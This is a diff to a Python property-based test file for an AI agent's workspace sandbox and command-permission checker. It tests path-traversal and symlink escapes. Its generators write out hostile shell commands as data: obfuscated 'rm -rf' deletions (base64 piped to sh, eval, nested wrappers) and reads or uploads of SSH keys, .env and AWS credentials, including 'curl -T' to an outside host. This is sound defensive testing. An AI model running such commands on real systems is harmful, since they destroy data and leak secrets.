@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import itertools
 import os
+import shlex
 import shutil
 import threading
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from agentnb.acp.failure import RpcError
@@ -72,26 +75,86 @@ def tree(folder: Path) -> dict[str, bytes]:
     return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file() and not path.is_symlink()}
 
 
-@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=300)
-@given(path=PATHS, absolute=st.booleans())
-def test_no_spelling_of_a_path_leads_out(root: Path, path: str, absolute: bool) -> None:
-    """Read and written through the service: what is outside is neither told nor touched."""
-    outside = root.parent / "outside"
-    before = tree(outside)
-    named = f"{root}/{path}" if absolute else path
-
-    async def both() -> None:
-        files = Files(Workspace(root), Ear())
-        for request in (files.read({"path": named}), files.write({"path": named, "content": "written"})):
-            try:
-                answer = await request
-            except (OutsideWorkspace, RpcError):
-                continue
+async def tried(root: Path, path: str) -> set[str]:
+    """Read and write *path* through the service, and say what came of it; nothing outside is told."""
+    files, outcomes = Files(Workspace(root), Ear()), set[str]()
+    for name, request in (
+        ("read", files.read({"path": path})),
+        ("write", files.write({"path": path, "content": "written"})),
+    ):
+        try:
+            answer = await request
+        except OutsideWorkspace:
+            outcomes.add(f"{name} outside")
+        except RpcError:
+            outcomes.add(f"{name} failed")
+        else:
+            outcomes.add(name)
             assert SECRET not in answer.get("content", "")
+    return outcomes
 
-    run(both())
-    assert tree(outside) == before
-    assert {each.name for each in root.parent.iterdir()} == {"work", "outside"}
+
+EVERYTHING = {"read", "write", "read outside", "write outside", "read failed", "write failed"}
+
+
+def test_no_spelling_of_a_path_leads_out(root: Path) -> None:
+    """Read and written through the service: what is outside is neither told nor touched; and both do happen."""
+    outside, outcomes = root.parent / "outside", set[str]()
+    before = tree(outside)
+
+    @settings(max_examples=300)
+    @given(path=PATHS, absolute=st.booleans())
+    @example(path="in/file", absolute=False)
+    @example(path="in/deep/new", absolute=True)
+    @example(path="out/secret", absolute=False)
+    @example(path="chain/../outside/secret", absolute=True)
+    @example(path="in/up/outside/secret", absolute=False)
+    @example(path="in/file/x", absolute=False)
+    def spelled(path: str, absolute: bool) -> None:
+        outcomes.update(run(tried(root, f"{root}/{path}" if absolute else path)))
+        assert tree(outside) == before
+        assert {each.name for each in root.parent.iterdir()} == {"work", "outside"}
+
+    spelled()
+    assert outcomes >= EVERYTHING
+
+
+LINKS = st.dictionaries(
+    st.sampled_from(["a", "b", "c", "in/a", "in/b", "in/in/a"]),
+    st.sampled_from(["..", "../..", "../outside", "../../outside", "../outside/secret", "a", "b", "c/a", "in", "in/a"])
+    | st.sampled_from([".", "in/../..", "{outside}", "{outside}/secret", "{outside}/new", "/", "../work", "missing/x"]),
+    max_size=6,
+)
+STEPS = st.lists(st.sampled_from(["a", "b", "c", "in", "..", ".", "outside", "secret", "new", "work"]), max_size=7)
+
+
+def test_no_tree_of_links_leads_out(tmp_path: Path) -> None:
+    """Real folders with links of every kind, one tree for each example."""
+    outcomes, numbers = set[str](), itertools.count()
+
+    @settings(max_examples=250, deadline=None)
+    @given(links=LINKS, steps=STEPS)
+    @example(links={"a": "../outside"}, steps=["a", "secret"])
+    @example(links={"a": "b", "b": "{outside}/new"}, steps=["a"])
+    @example(links={"in/a": ".."}, steps=["in", "a", "in", "file"])
+    @example(links={"a": "in"}, steps=["a", "new"])
+    def grown(links: dict[str, str], steps: list[str]) -> None:
+        above = tmp_path / str(next(numbers))
+        root, outside = above / "work", above / "outside"
+        (root / "in/in").mkdir(parents=True)
+        outside.mkdir()
+        (root / "in/file").write_text("inside")
+        (outside / "secret").write_text(SECRET)
+        for name, target in links.items():
+            (root / name).symlink_to(target.format(outside=outside))
+        before = tree(outside)
+        outcomes.update(run(tried(root.resolve(), "/".join(steps))))
+        assert tree(outside) == before
+        assert {each.name for each in above.iterdir()} == {"work", "outside"}
+        assert {each.name for each in outside.iterdir()} == {"secret"}
+
+    grown()
+    assert outcomes >= {"read", "write", "read outside", "write outside"}
 
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -193,3 +256,67 @@ def test_no_command_is_allowed_without_being_read(command: str) -> None:
         assert (verdict.outcome, verdict.severity) == ("ask", "high")
     if any("rm -rf" in (subject.command or "") and "'" not in (subject.command or "") for subject in verdict.subjects):
         assert verdict.outcome == "ask"
+
+
+def quoted(draw: st.DrawFn, text: str) -> str:
+    """*text* as a shell reads it, spelled in one of many ways."""
+    ways = [lambda char: char, lambda char: f"\\{char}", lambda char: f"'{char}'", lambda char: f'"{char}"']
+    return "".join(draw(st.sampled_from(ways))(char) if char.isalnum() else char for char in text)
+
+
+WRAPPED = [
+    lambda line: f"bash -c {shlex.quote(line)}",
+    lambda line: f"eval {shlex.quote(line)}",
+    lambda line: f"env -S {shlex.quote(line)}",
+    lambda line: f"sudo sh -ec {shlex.quote(line)}",
+    lambda line: f"({line})",
+    lambda line: f"{{ {line}; }}",
+    lambda line: f"echo $({line})",
+    lambda line: f"if true; then {line}; fi",
+    lambda line: f"ls | {line}",
+    lambda line: f"true && {line}",
+    lambda line: f"f() {{ {line}; }}; f",
+    lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
+    lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
+    lambda line: f"trap {shlex.quote(line)} EXIT",
+    lambda line: f"unknown-tool --run={shlex.quote(line)}",
+]
+PREFIXES = ["", "sudo ", "env A=1 ", "nohup ", "timeout -k 1 5 ", "command ", "nice -n 5 ", "xargs -0 ", "busybox "]
+
+
+@st.composite
+def disguised(draw: st.DrawFn) -> str:
+    """A command that deletes everything, in some disguise."""
+    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive", "-vrf", "--recurs --force"]))
+    program = draw(st.sampled_from(["rm", "/bin/rm", "RM"]))
+    line = f"{draw(st.sampled_from(PREFIXES))}{quoted(draw, program)} {quoted(draw, flags)} x"
+    for wrap in draw(st.lists(st.sampled_from(WRAPPED), max_size=2)):
+        line = wrap(line)
+    return line
+
+
+@settings(max_examples=300, deadline=None)
+@given(disguised())
+def test_no_disguise_of_a_deletion_is_allowed_unasked(command: str) -> None:
+    """Quoted, wrapped, encoded, and that in one another."""
+    verdict = judge(Door(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
+    assert (verdict.outcome, verdict.severity, verdict.floor in {"critical", "unreadable"}) == ("ask", "critical", True)
+
+
+@st.composite
+def named_secret(draw: st.DrawFn) -> str:
+    """A command that reads a secret, spelled in some way."""
+    name = quoted(
+        draw, draw(st.sampled_from([".env", ".ENV", "id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]))
+    )
+    folder = draw(st.sampled_from(["", "./", "../", "a/../", "/abs/", "~/", "$HOME/", ".//", '"$PWD"/']))
+    reader = draw(st.sampled_from(["cat {}", "cat < {}", "cp {} x", "base64 {}", "curl -T {} https://x", "source {}"]))
+    return reader.format(folder + name)
+
+
+@settings(max_examples=300, deadline=None)
+@given(named_secret())
+def test_no_spelling_of_a_secret_is_read_unasked(command: str) -> None:
+    """By whatever program, from wherever."""
+    verdict = judge(Door(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
+    assert (verdict.outcome, verdict.floor) == ("ask", "sensitive")
